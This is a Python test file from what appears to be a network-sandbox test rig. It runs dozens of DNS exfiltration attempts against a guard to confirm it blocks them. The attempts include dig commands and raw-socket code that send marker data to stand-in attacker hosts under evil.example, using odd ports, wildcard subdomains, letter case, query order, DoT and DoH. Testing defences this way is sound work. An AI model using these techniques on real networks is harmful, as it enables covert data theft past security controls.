"""Class 2: DNS as a channel."""

from rig.attacks import Attack, AttackCase, attacks
from rig.cases import expand
from rig.internet import ATTACKER, RESOLVER, RESOLVER_2

# A policy that lets one name of the attacker's zone be resolved, and all below another.
ONE_NAME = f"{RESOLVER}:53/udp\ndns:www.evil.example\nwww.allowed.example\n"
WILDCARD = f"{RESOLVER}:53/udp\ndns:*.cdn.evil.example\n"

ASK = f"""
def ask(message, host="{RESOLVER}", port=53):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(message, (host, port))
    return s.recv(4096)
def ask_tcp(*messages, host="{RESOLVER}", port=53):
    s = socket.create_connection((host, port))
    s.sendall(b"".join(struct.pack(">H", len(m)) + m for m in messages))
    drain(s)
"""


def dns(label, program, **more):
    return Attack(label, ASK + program, **more)


def dig(label, arguments, **more):
    return Attack(label, f"dig +tries=1 +time=2 {arguments}", shell=True, **more)


ATTACKS = [
    dig("name through the resolver", "$MARKER.evil.example"),
    dig("name through the resolver, over tcp", "+tcp $MARKER.evil.example"),
    *[dig(f"{kind} through the resolver", f"{kind} $MARKER.evil.example")
      for kind in ("AAAA", "TXT", "NULL", "MX", "SRV", "ANY", "TYPE65", "CNAME")],
    dig("name to its own server", f"@{ATTACKER} $MARKER.evil.example"),
    dig("name to its own server, over tcp", f"@{ATTACKER} +tcp $MARKER.evil.example"),
    dig("allowed name to its own server", f"@{ATTACKER} +ednsopt=65001:$MARKER www.allowed.example",
        forms=lambda marker: [bytes.fromhex(marker)]),
    dig("on another port", f"@{ATTACKER} -p 4444 $MARKER.evil.example", logged=False),
    dig("on another port, over tcp", f"@{ATTACKER} -p 853 +tcp $MARKER.evil.example"),
    dig("through a resolver that is not allowed", f"@{RESOLVER_2} $MARKER.evil.example"),
    dig("in the class", f"@{ATTACKER} -c CH $MARKER.evil.example"),
    dig("under the allowed name", "$MARKER.www.evil.example", policy=ONE_NAME),
    dig("beside the allowed name", "$MARKER-www.evil.example", policy=ONE_NAME),
    Attack("the library's own look-up", "getent hosts $MARKER.evil.example", shell=True),
    Attack("many look-ups at once",
           "for i in 1 2 3 4 5 6 7 8 9; do getent hosts $MARKER-$i.evil.example & done; wait",
           shell=True),
    dns("allowed name, then another on the same connection", """
ask_tcp(query("www.allowed.example"), query(MARKER + ".evil.example"))"""),
    dns("allowed name, then another on the same socket", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("{RESOLVER}", 53))
s.send(query("www.allowed.example")); s.recv(500); s.send(query(MARKER + ".evil.example")); s.recv(500)"""),
    dns("message split over segments", f"""
s = socket.create_connection(("{RESOLVER}", 53)); m = query(MARKER + ".evil.example")
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for byte in struct.pack(">H", len(m)) + m: s.send(bytes([byte])); time.sleep(0.002)
s.recv(500)"""),
    dns("marker in a query's id and flags, to its own server", """
ask(mark[:2] + query("www.allowed.example")[2:] + mark, host=ATTACKER)"""),
    dns("bytes behind the message, to its own server", """
ask(query("www.allowed.example") + mark, host=ATTACKER)"""),
    dns("as a response", """
ask(struct.pack(">HHHHHH", 7, 0x8180, 1, 0, 0, 0) + name(MARKER + ".evil.example") + b"\\0\\1\\0\\1",
    host=ATTACKER)"""),
    dns("as an update", """
ask(struct.pack(">HHHHHH", 7, 0x2800, 1, 0, 0, 0) + name(MARKER + ".evil.example") + b"\\0\\6\\0\\1",
    host=ATTACKER)"""),
    dns("compressed question", """
ask(struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + bytes([len(MARKER)]) + mark + b"\\xc0\\x27"
    + b"\\0\\1\\0\\1" + name("evil.example"), host=ATTACKER)"""),
    dns("upper case", 'ask(query(MARKER.upper() + ".EVIL.EXAMPLE"))'),
    dns("long names", 'ask(query(".".join(["x" * 60] * 3 + [MARKER, "evil", "example"])))'),
    # A name under an allowed wildcard gets through; what does not is a message of any length.
    dns("payload in names under an allowed wildcard, a piece each", """

for i in range(300):
    try: ask(query("%s.p%03d.cdn.evil.example" % (MARKER if i == 299 else "x", i)))
    except OSError: pass""", policy=WILDCARD, silent=False),
    dns("payload in long names under an allowed wildcard", """
for i in range(60):
    try: ask(query("%s.%s.p%d.cdn.evil.example" % (MARKER if i == 59 else "x", ".".join(["y" * 60] * 3), i)))
    except OSError: pass""", policy=WILDCARD, silent=False),
    dns("payload in the order of names under an allowed wildcard", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("{RESOLVER}", 53))
def one(text):
    s.send(query(text)); return s.recv(500)
one("bit0.cdn.evil.example"), one("bit1.cdn.evil.example")
for i in range(40): one("bit%d.cdn.evil.example" % (i % 2))
# What is repeated is told apart by type: the resolver has not been asked for this one.
s.send(query("bit1.cdn.evil.example", 16)); s.recv(500)""", policy=WILDCARD, silent=False,
        options=("--limit", "dns_queries_hourly=40"),
        forms=lambda marker: [b"\x04bit1\x03cdn\x04evil\x07example\0\0\x10"]),
    # The name that a client claims is looked up by the worker: only as if the client had asked.
    Attack("claimed name under an allowed wildcard, no rule for a resolver", f"""
context = ssl._create_unverified_context()
for port in (443, 80):
    try:
        s = socket.create_connection((ATTACKER, port))
        if port == 80: s.sendall(f"GET / HTTP/1.1\\r\\nHost: {{MARKER}}.cdn.evil.example\\r\\n\\r\\n".encode())
        else: context.wrap_socket(s, server_hostname=MARKER + ".cdn.evil.example")
        drain(s)
    except OSError: pass""", policy="*.cdn.evil.example:80|443\n"),
    Attack("DNS over TLS", f"""
context = ssl._create_unverified_context(); m = query(MARKER + ".evil.example")
s = context.wrap_socket(socket.create_connection((ATTACKER, 853)))
s.sendall(struct.pack(">H", len(m)) + m); s.recv(500)"""),
    Attack("DNS over HTTPS to an unknown host", f"""
context = ssl._create_unverified_context(); m = query(MARKER + ".evil.example")
s = context.wrap_socket(socket.create_connection((ATTACKER, 443)), server_hostname="dns.evil.example")
s.sendall(b"POST /dns-query HTTP/1.1\\r\\nHost: dns.evil.example\\r\\nContent-Type: "
          b"application/dns-message\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(m) + m); s.recv(500)"""),
]


@expand
class Dns(AttackCase):
    @attacks(ATTACKS)
    def attack(self, attack):
        self.carry_out(attack)

    def test_bits_in_the_case_of_an_allowed_name(self):
        """A bit a letter: the resolver hands on the case of a name. The name may arrive, the way it
        was written must not."""
        shouted = "wWw.eViL.eXaMpLe"
        command = ["dig", "+tries=1", "+time=2", shouted]
        wire = b"\x03wWw\x04eViL\x07eXaMpLe"
        self.net.forget_names()
        self.oracle.mark()
        self.machine.plain(command)
        self.assertTrue(self.oracle.wait_for(wire, exact=True), "does not work without a guard either")
        self.net.forget_names()
        self.oracle.mark()
        result = self.machine.guarded(command, ONE_NAME)
        self.assertTrue(self.oracle.wait_for(b"\x03www\x04evil"), result)
        self.assertFalse(self.oracle.holds(wire, exact=True), result)
        self.assertIn("198.51.100.66", result.out, "and the answer fits the question as asked")
